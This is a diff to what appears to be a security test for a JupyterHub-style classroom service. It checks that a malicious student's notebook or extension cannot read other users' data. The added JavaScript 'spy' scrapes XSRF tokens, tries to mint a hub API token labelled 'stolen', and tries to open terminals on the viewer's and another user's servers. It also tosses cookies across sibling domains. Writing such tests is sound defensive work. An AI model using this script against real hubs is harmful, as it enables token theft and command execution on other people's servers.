@@ -13,7 +13,7 @@ hub's domain (a sibling host may set them over plain HTTP) and their XSRF token 
 """
 
 import json
-from urllib.parse import urlsplit
+from urllib.parse import urljoin, urlsplit
 
 import requests
 from playwright.sync_api import expect
@@ -36,7 +36,8 @@ TOSSED_COOKIES = (
 SPY = r"""
 async function codepilotSpy(config, reportId) {
   const {hub, attacker, other, toss} = config;
-  const out = {}, xsrf = toss ? toss.cookies._xsrf : "";
+  const out = {};
+  let xsrf = toss ? toss.cookies._xsrf : "";
   async function attempt(name, action) {
     try { out[name] = String(await action()); }
     catch (error) { out[name] = "blocked: " + error.name; }
@@ -72,7 +73,7 @@ async function codepilotSpy(config, reportId) {
   const me = await (await fetch("/user/" + attacker + "/api/me",
                                 {headers: {"X-XSRFToken": here}})).json();
   const viewer = me.identity.username;
-  const own = hub.replace("//", "//" + viewer + ".") + "/user/" + viewer + "/";
+  const own = config.own.replaceAll("spyviewer", viewer);
   if (toss) {
     for (const domain of toss.domains) {
       for (const [name, path] of toss.paths) {
@@ -82,10 +83,21 @@ async function codepilotSpy(config, reportId) {
   }
   out.viewer = viewer;
   const tokens = hub + "/hub/api/users/" + viewer + "/tokens";
-  await attempt("hub_home", () => read(hub + "/hub/home"));
-  await attempt("hub_user", () => read(hub + "/hub/api/user"));
-  await attempt("token", () => read(tokens, {method: "POST",
-    headers: {"Content-Type": "application/json"}, body: JSON.stringify({note: "stolen"})}));
+  await attempt("hub_home", async () => {
+    const reply = await fetch(hub + "/hub/home", {credentials: "include"});
+    const page = await reply.text();  // if readable, its XSRF token serves the rest
+    xsrf = (page.match(/xsrf_token: "([^"]+)"/) || [])[1] || xsrf;
+    return reply.status + " " + page.slice(0, 2000);
+  });
+  const json = {"Content-Type": "application/json", "X-XSRFToken": xsrf};
+  await attempt("hub_user", () => read(hub + "/hub/api/user", {headers: json}));
+  let stolen = "";
+  await attempt("token", async () => {
+    const answer = await read(tokens, {method: "POST", headers: json,
+                                       body: JSON.stringify({note: "stolen"})});
+    stolen = answer.startsWith("201") ? JSON.parse(answer.slice(4)).token : "";
+    return answer;
+  });
   await attempt("token_simple", () => send(tokens + "?_xsrf=" + xsrf, '{"note": "stolen"}'));
   const spawn = hub + "/hub/spawn/" + viewer + "/stolen";
   await attempt("spawn_form", () => formPost(spawn, {_xsrf: xsrf}));
@@ -94,6 +106,10 @@ async function codepilotSpy(config, reportId) {
   await attempt("own_read", () => read(own + "api/terminals"));
   await attempt("own_terminal", () => send(own + "api/terminals?_xsrf=" + xsrf, ""));
   await attempt("own_terminal_form", () => formPost(own + "api/terminals", {_xsrf: xsrf}));
+  // With a token, if one was minted: terminals wherever the viewer may open them.
+  const bearer = {method: "POST", headers: {"Authorization": "token " + stolen}};
+  await attempt("token_terminal_own", () => read(own + "api/terminals", bearer));
+  await attempt("token_terminal_other", () => read(other + "api/terminals", bearer));
   // Her own host: whatever the proxy sends from there to the hub or to other servers.
   await attempt("here_hub_user", () => read("/hub/api/user"));
   await attempt("here_other", () => read(new URL(other).pathname + "api/contents"));
@@ -127,7 +143,27 @@ codepilotSpy(%(config)s, "spy-notebook");
 </script>"""
 CARRIERS = ("extension", "notebook")
 # Every answer the page tried to read must be refused, or an error, never the data.
-READ_ATTEMPTS = ("hub_home", "hub_user", "token", "other_read", "own_read", "here_hub_user")
+READ_ATTEMPTS = (
+    "hub_home",
+    "hub_user",
+    "token",
+    "token_terminal_own",
+    "token_terminal_other",
+    "other_read",
+    "own_read",
+    "here_hub_user",
+)
+
+
+def spy_config(hub, other: str) -> dict:
+    """Where things are, for the student's script: the viewer's server is ``own`` with
+    her name for "spyviewer"."""
+    return {
+        "hub": hub.url,
+        "attacker": ATTACKER,
+        "other": hub.server_url(other),
+        "own": hub.server_url("spyviewer"),
+    }
 
 
 def notebook(html: str) -> str:
@@ -148,7 +184,7 @@ def plant(hub, other: str) -> None:
     """What the student does in her own IDE, with her own token: the extension in her
     labextensions folder (where ``pip install`` or ``jupyter labextension`` would put it)
     and the notebook, trusted."""
-    config = json.dumps({"hub": hub.url, "attacker": ATTACKER, "other": hub.server_url(other)})
+    config = json.dumps(spy_config(hub, other))
     entry = EXTENSION_ENTRY % {"spy": SPY, "name": json.dumps(EXTENSION_NAME), "config": config}
     html = NOTEBOOK_OUTPUT % {"spy": SPY, "config": config}
     token = hub.user_token(ATTACKER)
@@ -257,7 +293,8 @@ def attack_from_the_class_page(hub, viewers: dict, new_context, evidence, other:
         page.goto(hub.service_url("codepilot"))  # the class page links Amira's IDE
         ide = page.locator(f'tr[data-id="{ATTACKER}/"] a', has_text="Open IDE")
         before[viewer] = traces(hub, viewer, other)
-        open_server(page, f"{ide.get_attribute('href')}/tree/{NOTEBOOK_NAME}")
+        lab = urljoin(page.url, ide.get_attribute("href"))  # relative without subdomains
+        open_server(page, f"{lab}/tree/{NOTEBOOK_NAME}")
         pages[viewer] = page  # both IDEs load at once
     for viewer, page in pages.items():
         found = reports(page)
@@ -298,7 +335,7 @@ def toss_cookies_and_try(page, hub, viewer: str, other: str) -> tuple[dict, dict
     XSRF token. Returns what it found, and the traces before and after."""
     toss = {"cookies": own_hub_cookies(hub, ATTACKER), "paths": TOSSED_COOKIES}
     toss["domains"] = hub_domains(hub)
-    config = {"hub": hub.url, "attacker": ATTACKER, "other": hub.server_url(other), "toss": toss}
+    config = {**spy_config(hub, other), "toss": toss}
     open_server(page, f"{hub.server_url(ATTACKER)}lab")
     # Any page of her origin is as good as her IDE for her script: a light one, her
     # server's "not found" (its API's answers forbid scripts any request).
